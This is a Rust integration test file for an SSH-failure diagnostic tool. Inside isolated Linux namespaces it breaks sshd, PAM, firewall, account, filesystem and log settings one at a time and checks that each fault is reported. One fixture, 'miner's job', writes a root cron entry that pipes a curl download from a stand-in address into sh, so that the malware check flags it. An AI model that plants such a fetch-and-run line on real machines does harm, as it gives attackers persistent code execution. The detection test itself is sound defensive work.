//! The Linux guest check run for real: a root of its own (overlay, mount, network and process
//! namespaces made here), a real `sshd`, PAM, faillock, nftables and full file systems.
//!
//! Each case breaks one thing and names the reading that must say so. Needs root; without it the
//! test says why it did not run.

#[path = "guest_linux/injection.rs"]
mod injection;
#[path = "guest_linux/policy.rs"]
mod policy;
#[path = "guest_linux/session.rs"]
mod session;
#[path = "guest_linux/systems.rs"]
mod systems;
#[path = "guest_linux/wrappers.rs"]
mod wrappers;

use std::net::IpAddr;
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Stdio};
use std::sync::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};

use cvmtop::domain::evidence::{Reading, Status};
use cvmtop::domain::instance::Os;
use cvmtop::guest::{GuestQuestion, counts, readings, script};

/// Makes the root: this machine's files below a layer in memory, so that anything may be changed and
/// how full this machine's own disk is does not matter. /run, /tmp and /var/log are empty.
const ROOM: &str = r#"
set -e
T=$(mktemp -d); mount -t tmpfs -o size=512m tmpfs "$T"; mkdir "$T/u" "$T/w" "$T/r"
mount -t overlay overlay -o "lowerdir=/,upperdir=$T/u,workdir=$T/w" "$T/r"
mount -t proc proc "$T/r/proc"; mount --rbind /dev "$T/r/dev"; mount --rbind /sys "$T/r/sys"
cd "$T/r"; pivot_root . mnt; cd /; umount -l /mnt
mount -t tmpfs tmpfs /run; mkdir -p /run/sshd /run/faillock
mount -t tmpfs tmpfs /var/log; : >/var/log/btmp; : >/var/log/auth.log
mount -t tmpfs -o size=2m tmpfs /tmp
ip link set lo up
ip link add eth0 type veth peer name eth0p; ip link set eth0p up; ip addr add 10.0.0.5/24 dev eth0; ip link set eth0 up
ip route add default via 10.0.0.1
rm -f /etc/ssh/ssh_host_*; ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key; : >/etc/hosts.deny; : >/etc/hosts.allow
mkdir -p /etc/ssh/sshd_config.d; printf 'PermitRootLogin yes\nUsePAM yes\n' >/etc/ssh/sshd_config
sed -i 's/^root:[^:]*/root:$6$salt$hash/' /etc/shadow
start() { /usr/sbin/sshd -D -E /var/log/sshd.err & PID=$!; n=0
  while ! ss -H -ltn | grep -q . && [ $n -lt 100 ]; do n=$((n+1)); sleep 0.05; done; }
set +e
"#;

fn question(user: &str) -> GuestQuestion {
    GuestQuestion {
        user: user.to_owned(),
        source: Some("203.0.113.7".parse::<IpAddr>().expect("address")),
        port: 22,
        private_address: Some("10.0.0.5".parse().expect("address")),
        uses_key: None,
        asked_at: Some(jiff::Timestamp::now().as_second()),
    }
}

/// Why the namespaces cannot be made here, if they cannot.
fn obstacle() -> Option<String> {
    let probe = Command::new("unshare")
        .args([
            "-mnpf",
            "--mount-proc",
            "sh",
            "-c",
            "mount -t tmpfs tmpfs /mnt",
        ])
        .output();
    let sshd = std::path::Path::new("/usr/sbin/sshd").exists();
    let nft = std::path::Path::new("/usr/sbin/nft").exists();
    match probe {
        Ok(o) if o.status.success() && sshd && nft => None,
        Ok(o) if !o.status.success() => Some(format!(
            "namespaces: {}",
            String::from_utf8_lossy(&o.stderr).trim()
        )),
        Ok(_) => Some("openssh-server or nftables is not installed".to_owned()),
        Err(error) => Some(format!("unshare: {error}")),
    }
}

/// Runs the check after `setup` in a root of its own.
fn check(user: &str, setup: &str) -> Vec<Reading> {
    let question = question(user);
    readings(Os::Linux, &answer(&question, setup), &question)
}

/// What the check prints.
fn answer(question: &GuestQuestion, setup: &str) -> String {
    let text = script(Os::Linux, question);
    let folder = tempfile::tempdir().expect("a temporary folder");
    let file = folder.path().join("check.sh");
    std::fs::write(&file, &text).expect("the script is written");
    // The folder may lie below /tmp, which is covered: hand the script over as descriptor 3.
    let run = format!(
        "exec 3<'{}'\n{ROOM}\n{setup}\nsh /dev/fd/3 3<&3\nexit 0\n",
        file.display()
    );
    let output = Command::new("unshare")
        .args(["-mnpf", "--kill-child", "--mount-proc", "bash", "-c", &run])
        .process_group(0) // of its own: see `support::probe::sshd_in`
        .stdin(Stdio::null())
        .output()
        .expect("unshare runs");
    let answer = String::from_utf8_lossy(&output.stdout);
    assert!(
        answer.contains("check\tend\t1"),
        "the check did not come to its end\n{answer}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        answer.len() < 24 * 1024,
        "longer than the agent keeps: {}",
        answer.len()
    );
    answer.into_owned()
}

/// The counters of the self-diagnosis are those of the kernel: datagrams that a full buffer loses and
/// connections that a full queue turns away are counted by it, and read as it has them.
#[test]
fn the_kernels_counters_of_lost_packets_are_read() {
    if let Some(why) = obstacle() {
        crate::support::not_run(&why);
        return;
    }
    // A socket that nobody reads, with the smallest buffer, and a queue of one that nobody accepts from.
    let setup = r#"start
python3 - <<'PY' >/tmp/lost 2>&1 &
import socket, time
reader = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
reader.bind(("127.0.0.1", 9999)); writer = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(200): writer.sendto(b"x" * 1000, ("127.0.0.1", 9999))
full = socket.socket(); full.bind(("127.0.0.1", 9998)); full.listen(0)
kept = []
for _ in range(4):
    one = socket.socket(); one.setblocking(False); one.connect_ex(("127.0.0.1", 9998)); kept.append(one)
while True:
    for _ in range(20): writer.sendto(b"x" * 1000, ("127.0.0.1", 9999))
    time.sleep(0.05)
PY
until [ "$(awk '/^Udp:/ { if (!n++) split($0, h); else for (i = 2; i <= NF; i++) if (h[i] == "RcvbufErrors") print $i }' /proc/net/snmp)" -gt 150 ]; do sleep 0.1; done
"#;
    let question = question("root");
    let printed = answer(&question, setup);
    let counts = counts(Os::Linux, &printed).expect("Linux has counters");
    let [before, after] = counts.udp_buffers.expect("read twice");
    assert!(before >= 150, "the kernel lost them: {counts:?}");
    assert!(after > before, "and goes on: {counts:?}");
    let [queued, _] = counts.accept_overflows.expect("read twice");
    assert!(queued > 0, "connections were turned away: {counts:?}");
    assert!(counts.softnet_dropped.is_some(), "{counts:?}");
    assert!(counts.uptime_s.is_some_and(|up| up > 0), "{counts:?}");
}

fn state<'a>(readings: &'a [Reading], id: &str) -> (&'a str, &'a str) {
    let reading = readings
        .iter()
        .find(|r| r.id == id)
        .expect("every group is answered");
    (
        reading.observed_state().unwrap_or(reading.status.as_str()),
        &reading.detail,
    )
}

/// A broken machine, the user who fails, and what must be read.
type Case = (
    &'static str,
    &'static str,
    &'static str,
    &'static [(&'static str, &'static str)],
);

const CASES: &[Case] = &[
    (
        "healthy",
        "root",
        "start",
        &[
            ("guest-service", "running"),
            ("guest-listener", "expected-port"),
            ("guest-sshd-config", "valid"),
            ("guest-auth-policy", "ok"),
            ("guest-firewall", "allow"),
            ("guest-source-block", "none"),
            ("guest-account", "ok"),
            ("guest-pam", "ok"),
            ("guest-filesystem", "ok"),
            ("guest-profile", "ok"),
            ("guest-network", "ok"),
            ("guest-dns", "ok"),
            ("guest-login-log", "ok"),
            ("guest-malware", "clean"),
        ],
    ),
    (
        "stopped",
        "root",
        "true",
        &[("guest-service", "stopped"), ("guest-listener", "none")],
    ),
    (
        "hung",
        "root",
        "start; kill -STOP $PID",
        &[("guest-service", "hung")],
    ),
    (
        "other port",
        "root",
        "echo 'Port 2222' >>/etc/ssh/sshd_config; start",
        &[
            ("guest-service", "running"),
            ("guest-listener", "other-port"),
        ],
    ),
    (
        "loopback only",
        "root",
        "echo 'ListenAddress 127.0.0.1' >>/etc/ssh/sshd_config; start",
        &[("guest-listener", "loopback-only")],
    ),
    (
        "IPv6 only",
        "root",
        "echo 'AddressFamily inet6' >>/etc/ssh/sshd_config; start",
        &[("guest-listener", "ipv6-only")],
    ),
    (
        "bad option",
        "root",
        "echo 'NoSuchOption yes' >>/etc/ssh/sshd_config",
        &[
            ("guest-sshd-config", "invalid"),
            ("guest-service", "stopped"),
        ],
    ),
    (
        "open host keys",
        "root",
        "chmod 644 /etc/ssh/ssh_host_*_key",
        &[("guest-sshd-config", "permissions")],
    ),
    (
        "no host keys",
        "root",
        "rm -f /etc/ssh/ssh_host_*",
        &[("guest-sshd-config", "host-keys-missing")],
    ),
    (
        "AllowUsers",
        "root",
        "echo 'AllowUsers deploy' >>/etc/ssh/sshd_config; start",
        &[("guest-auth-policy", "user-denied")],
    ),
    (
        "DenyUsers",
        "root",
        "echo 'DenyUsers ro*' >>/etc/ssh/sshd_config; start",
        &[("guest-auth-policy", "user-denied")],
    ),
    (
        "no root",
        "root",
        "echo 'PermitRootLogin no' >/etc/ssh/sshd_config; start",
        &[("guest-auth-policy", "root-denied")],
    ),
    (
        "keys only",
        "deploy",
        "useradd -m -d /tmp/deploy deploy; printf 'PasswordAuthentication no\\nKbdInteractiveAuthentication no\\n' >>/etc/ssh/sshd_config; start",
        &[("guest-auth-policy", "password-disabled")],
    ),
    (
        "keys only, user of keys",
        "deploy",
        "useradd -m -d /tmp/deploy deploy; mkdir /tmp/deploy/.ssh; cp /etc/ssh/ssh_host_ed25519_key.pub /tmp/deploy/.ssh/authorized_keys; printf 'PasswordAuthentication no\\nKbdInteractiveAuthentication no\\n' >>/etc/ssh/sshd_config; start",
        &[("guest-auth-policy", "ok")],
    ),
    (
        "one try, and none left",
        "root",
        "echo 'MaxAuthTries 1' >>/etc/ssh/sshd_config; start; echo 'Nov 23 10:00:00 h sshd[7]: error: maximum authentication attempts exceeded for root from 203.0.113.7 port 5 ssh2 [preauth]' >/var/log/auth.log",
        &[("guest-auth-policy", "too-few-tries")],
    ),
    (
        "nftables drops",
        "root",
        "start; nft 'add table inet f; add chain inet f input { type filter hook input priority 0; policy drop; }; add rule inet f input ct state established,related accept; add rule inet f input tcp dport 443 accept'",
        &[("guest-firewall", "drop"), ("guest-source-block", "none")],
    ),
    (
        "nftables rejects",
        "root",
        "start; nft 'add table inet f; add chain inet f input { type filter hook input priority 0; }; add rule inet f input tcp dport 22 reject'",
        &[("guest-firewall", "reject")],
    ),
    (
        "nftables shuts one source out",
        "root",
        "start; nft 'add table inet f; add set inet f banned { type ipv4_addr; }; add element inet f banned { 203.0.113.7 }; add chain inet f input { type filter hook input priority 0; }; add rule inet f input ip saddr @banned drop'",
        &[
            ("guest-firewall", "allow"),
            ("guest-source-block", "blocked"),
        ],
    ),
    (
        "hosts.deny",
        "root",
        "start; echo 'sshd: 203.0.113.' >/etc/hosts.deny",
        &[
            ("guest-source-block", "blocked"),
            ("guest-firewall", "allow"),
        ],
    ),
    (
        "no such user",
        "nobody-here",
        "start",
        &[("guest-account", "absent")],
    ),
    (
        "no shell",
        "deploy",
        "useradd -d /tmp -s /usr/sbin/nologin deploy; start",
        &[("guest-account", "no-shell")],
    ),
    (
        "expired account",
        "deploy",
        "useradd -d /tmp -s /bin/bash -e 2020-01-01 deploy; start",
        &[("guest-account", "expired")],
    ),
    (
        "nobody but root",
        "deploy",
        "useradd -d /tmp -s /bin/bash -p set deploy; touch /etc/nologin; start",
        &[("guest-account", "ok"), ("guest-pam", "restricts")],
    ),
    (
        "limits",
        "root",
        "echo 'root - nofile 99999999' >/etc/security/limits.d/x.conf; start",
        &[("guest-account", "limits")],
    ),
    (
        "PAM module missing",
        "root",
        "echo 'auth required pam_no_such.so' >>/etc/pam.d/sshd; start",
        &[("guest-pam", "broken")],
    ),
    (
        "PAM listfile",
        "root",
        "echo 'auth required pam_listfile.so item=user sense=allow file=/etc/ok onerr=fail' >>/etc/pam.d/sshd; start",
        &[("guest-pam", "restricts")],
    ),
    (
        "full",
        "root",
        "start; dd if=/dev/zero of=/tmp/x bs=64k 2>/dev/null",
        &[("guest-filesystem", "full")],
    ),
    (
        "read-only",
        "root",
        "start; mount --bind / /mnt; mount -o remount,ro,bind /mnt; mount --move /mnt / 2>/dev/null || mount -o remount,ro,bind /",
        &[("guest-filesystem", "read-only")],
    ),
    (
        "profile loop",
        "root",
        "echo '. /etc/profile' >/etc/profile.d/again.sh; start",
        &[("guest-profile", "ok")],
    ),
    (
        "profile calls itself",
        "root",
        "echo 'source /etc/profile' >>/etc/profile; start",
        &[("guest-profile", "loop")],
    ),
    (
        "wrong address",
        "root",
        "start; ip addr flush dev eth0; ip addr add 10.0.0.99/24 dev eth0; ip route add default via 10.0.0.1",
        &[("guest-network", "misconfigured")],
    ),
    (
        "no default route",
        "root",
        "start; ip route del default",
        &[("guest-network", "misconfigured")],
    ),
    (
        "btmp",
        "root",
        "start; truncate -s 3G /var/log/btmp",
        &[("guest-login-log", "oversized")],
    ),
    (
        "failed password in the log",
        "root",
        "start; echo 'Nov 23 10:00:00 h sshd[7]: Failed password for root from 203.0.113.7 port 5 ssh2' >/var/log/auth.log",
        &[("guest-auth-log", "failed-password")],
    ),
    (
        "dropped connections in the log",
        "root",
        "start; echo 'Nov 23 10:00:00 h sshd[7]: drop connection #10 from [203.0.113.7]:5 on [10.0.0.5]:22 past MaxStartups' >/var/log/auth.log",
        &[("guest-throttle", "max-startups")],
    ),
    (
        "miner's job",
        "root",
        "start; echo '* * * * * root curl -s http://192.0.2.1/x.sh | sh' >/etc/cron.d/x",
        &[("guest-malware", "suspicious")],
    ),
];

/// What one case reads that it should not.
fn misread((name, user, setup, expected): &Case) -> Vec<String> {
    let readings = check(user, setup);
    expected
        .iter()
        .filter_map(|(id, want)| {
            let (got, detail) = state(&readings, id);
            (got != *want).then(|| format!("{name}: {id} is `{got}`, expected `{want}` ({detail})"))
        })
        .collect()
}

#[test]
fn each_broken_machine_is_read_as_what_it_is() {
    if let Some(why) = obstacle() {
        crate::support::not_run(&why);
        return;
    }
    // Each root is its own, so several can be looked at side by side.
    let next = AtomicUsize::new(0);
    let wrong = Mutex::new(Vec::new());
    std::thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| {
                while let Some(case) = CASES.get(next.fetch_add(1, Ordering::Relaxed)) {
                    let found = misread(case);
                    wrong.lock().expect("no thread panicked").extend(found);
                }
            });
        }
    });
    let wrong = wrong.into_inner().expect("no thread panicked");
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_cut_answer_leaves_unknowns_not_findings() {
    let question = question("root");
    let cut = "check\tversion\t1\nservice\tbinary\t/usr/sbin/sshd\nservice\tprocess\tS 1 sshd: x [listener]";
    for reading in readings(Os::Linux, cut, &question) {
        if reading.id == "guest-service" {
            assert_eq!(reading.observed_state(), Some("running"));
        } else {
            assert_eq!(
                reading.status,
                Status::NotAttempted,
                "{}: {}",
                reading.id,
                reading.detail
            );
        }
    }
}
